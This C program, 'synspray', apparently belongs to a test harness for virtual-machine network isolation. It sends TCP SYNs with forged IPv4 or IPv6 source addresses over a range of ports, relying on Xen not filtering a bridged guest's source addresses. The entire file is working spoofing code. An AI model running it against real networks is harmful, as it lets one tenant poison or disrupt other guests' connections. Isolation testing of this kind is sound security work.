/* synspray: what a hostile guest sends to poison another guest's flows. It
 * sends TCP SYNs whose source address is not the sender's own (a forged
 * source is all a guest needs: Xen does not filter a bridged vif's source
 * addresses), one SYN per source port, through a raw IP socket so that the
 * kernel routes them and resolves the next hop like any other packet.
 *
 *   synspray SRC_IP DST_IP DST_PORT SPORT_FROM [SPORT_TO]
 *
 * SRC_IP and DST_IP are both IPv4 or both IPv6. On stdout, one JSON line:
 *   {"sent":N}   or {"error":"..."} with exit status 1. */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static void fail(const char *what)
{
	printf("{\"error\":\"%s: %s\"}\n", what, strerror(errno));
	exit(1);
}

static void usage(void)
{
	fprintf(stderr, "usage: synspray SRC_IP DST_IP DST_PORT SPORT_FROM [SPORT_TO]\n");
	exit(2);
}

static uint32_t sum16(const void *data, size_t len, uint32_t acc)
{
	const uint8_t *p = data;
	for (; len > 1; len -= 2, p += 2) acc += (uint32_t)p[0] << 8 | p[1];
	if (len) acc += (uint32_t)p[0] << 8;
	return acc;
}

static uint16_t fold(uint32_t acc)
{
	while (acc >> 16) acc = (acc & 0xffff) + (acc >> 16);
	return htons((uint16_t)~acc);
}

/* A SYN as a kernel sends it, less the options (none needed to open a request). */
static void fill_syn(struct tcphdr *t, uint16_t sport, uint16_t dport)
{
	memset(t, 0, sizeof(*t));
	t->source = htons(sport);
	t->dest = htons(dport);
	t->seq = htonl((uint32_t)random());
	t->doff = sizeof(*t) / 4;
	t->syn = 1;
	t->window = htons(64240);
}

static unsigned long parse_port(const char *s)
{
	char *end;
	unsigned long v = strtoul(s, &end, 10);
	if (*end || v == 0 || v > 65535) usage();
	return v;
}

int main(int argc, char **argv)
{
	if (argc != 5 && argc != 6) usage();
	unsigned long dport = parse_port(argv[3]), from = parse_port(argv[4]);
	unsigned long to = argc == 6 ? parse_port(argv[5]) : from;
	if (to < from) usage();
	srandom((unsigned)time(NULL) ^ (unsigned)getpid());

	struct in_addr s4, d4;
	struct in6_addr s6, d6;
	unsigned long sent = 0;
	if (inet_pton(AF_INET, argv[1], &s4) == 1 && inet_pton(AF_INET, argv[2], &d4) == 1) {
		int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW); /* implies IP_HDRINCL */
		if (fd < 0) fail("socket");
		struct sockaddr_in sa = { .sin_family = AF_INET, .sin_addr = d4 };
		struct { struct iphdr ip; struct tcphdr tcp; } pkt;
		for (unsigned long p = from; p <= to; p++) {
			memset(&pkt.ip, 0, sizeof(pkt.ip));
			pkt.ip.version = 4;
			pkt.ip.ihl = 5;
			pkt.ip.tot_len = htons(sizeof(pkt));
			pkt.ip.ttl = 64;
			pkt.ip.protocol = IPPROTO_TCP;
			pkt.ip.saddr = s4.s_addr;
			pkt.ip.daddr = d4.s_addr; /* the kernel fills in id and the header checksum */
			fill_syn(&pkt.tcp, (uint16_t)p, (uint16_t)dport);
			uint32_t acc = sum16(&s4, 4, 0);
			acc = sum16(&d4, 4, acc);
			acc += IPPROTO_TCP + sizeof(pkt.tcp);
			pkt.tcp.check = fold(sum16(&pkt.tcp, sizeof(pkt.tcp), acc));
			if (sendto(fd, &pkt, sizeof(pkt), 0, (struct sockaddr *)&sa, sizeof(sa)) < 0) fail("sendto");
			sent++;
		}
	} else if (inet_pton(AF_INET6, argv[1], &s6) == 1 && inet_pton(AF_INET6, argv[2], &d6) == 1) {
		int fd = socket(AF_INET6, SOCK_RAW, IPPROTO_RAW); /* implies IPV6_HDRINCL */
		if (fd < 0) fail("socket");
		struct sockaddr_in6 sa = { .sin6_family = AF_INET6, .sin6_addr = d6 };
		struct { struct ip6_hdr ip; struct tcphdr tcp; } pkt;
		for (unsigned long p = from; p <= to; p++) {
			memset(&pkt.ip, 0, sizeof(pkt.ip));
			pkt.ip.ip6_flow = htonl(6u << 28);
			pkt.ip.ip6_plen = htons(sizeof(pkt.tcp));
			pkt.ip.ip6_nxt = IPPROTO_TCP;
			pkt.ip.ip6_hlim = 64;
			pkt.ip.ip6_src = s6;
			pkt.ip.ip6_dst = d6;
			fill_syn(&pkt.tcp, (uint16_t)p, (uint16_t)dport);
			uint32_t acc = sum16(&s6, 16, 0);
			acc = sum16(&d6, 16, acc);
			acc += IPPROTO_TCP + sizeof(pkt.tcp);
			pkt.tcp.check = fold(sum16(&pkt.tcp, sizeof(pkt.tcp), acc));
			if (sendto(fd, &pkt, sizeof(pkt), 0, (struct sockaddr *)&sa, sizeof(sa)) < 0) fail("sendto");
			sent++;
		}
	} else {
		usage();
	}
	printf("{\"sent\":%lu}\n", sent);
	return 0;
}
